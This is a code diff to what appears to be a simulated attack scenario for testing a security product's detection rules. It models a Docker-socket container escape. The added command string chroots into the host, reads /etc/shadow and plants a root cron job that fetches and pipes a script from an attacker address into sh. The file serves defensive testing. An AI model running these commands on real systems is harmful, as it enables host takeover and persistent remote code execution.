@@ -4,8 +4,10 @@ import { RULES, SIGMA } from './rules.js';
 /**
  * A developer's stolen SSH key on a Jenkins build host with Docker-in-Docker: the intruder (not a
  * sudoer) starts a privileged container with the Docker socket mounted, then uses it to run a
- * second privileged container in the host's PID namespace with the host's root filesystem, and
- * chroots into the host.
+ * second privileged container, from an image nobody signed, in the host's PID namespace with the
+ * host's root filesystem, chroots into the host and plants a cron backdoor. Vigil's container
+ * watcher reports both containers' settings and the unsigned image; a container-aware endpoint
+ * sensor sees the cron file written from inside the second container.
  */
 function play(kit: StoryKit) {
   const { r, world, lin, flat } = kit;
@@ -58,21 +60,40 @@ function play(kit: StoryKit) {
   );
   const outer = flat.container(host, image, name);
   flat.docker(clock.step(0, 1), outer, 'create');
+  flat.watched(
+    clock.t,
+    outer,
+    { Privileged: true, Binds: ['/var/run/docker.sock:/var/run/docker.sock'] },
+    { status: 'verified', reason: 'signed by docker-official' },
+  );
   flat.docker(clock.step(0, 1), outer, 'start');
 
   const inner = flat.container(
     host,
-    'alpine:3.19',
+    `registry.northwind.internal/ci/${r.pick(['build-cache', 'gradle-cache', 'npm-mirror'])}:latest`,
     `${r.pick(['eager', 'quirky', 'brave', 'jolly'])}_${r.pick(['hopper', 'turing', 'curie', 'lovelace'])}`,
   );
   lin.exec(
     clock.step(30, 300),
     bash,
     '/usr/bin/docker',
-    `docker exec ${name} docker run --rm --privileged --pid=host -v /:/host ${inner.image} chroot /host /bin/sh -c "id; cat /etc/shadow | head -n 3"`,
+    `docker exec ${name} docker run --rm --privileged --pid=host -v /:/host ${inner.image} chroot /host /bin/sh -c "id; cat /etc/shadow | head -n 3; echo '*/5 * * * * root curl -fsSL http://${from}:8443/u | sh' > /etc/cron.d/x"`,
   );
   flat.docker(clock.step(1, 2), inner, 'create');
+  flat.watched(
+    clock.t,
+    inner,
+    { Privileged: true, PidMode: 'host', Binds: ['/:/host'] },
+    { status: 'unsigned', reason: `no signature for ${inner.image}` },
+  );
   flat.docker(clock.step(0, 1), inner, 'start');
+  flat.containerFile(
+    clock.step(1, 3),
+    inner,
+    `/etc/cron.d/${r.pick(['apt-compat2', 'e2scrub-all', 'sysstat2'])}`,
+    '/bin/busybox',
+    r.int(20000, 60000),
+  );
   flat.docker(clock.step(1, 3), inner, 'die', 0);
   flat.docker(clock.step(0, 1), inner, 'destroy');
   lin.syslog(clock.step(60, 600), host, {
@@ -88,6 +109,12 @@ function play(kit: StoryKit) {
 export const containerEscape: Story = {
   name: 'container-escape',
   title: 'Privileged container with the Docker socket, used to mount the host and chroot into it',
-  expectedRules: [RULES.privilegedContainer, SIGMA.linuxAccountsDiscovery],
+  expectedRules: [
+    RULES.privilegedContainer,
+    RULES.containerHostControl,
+    RULES.unsignedImage,
+    RULES.hostPersistenceFromContainer,
+    SIGMA.linuxAccountsDiscovery,
+  ],
   play,
 };
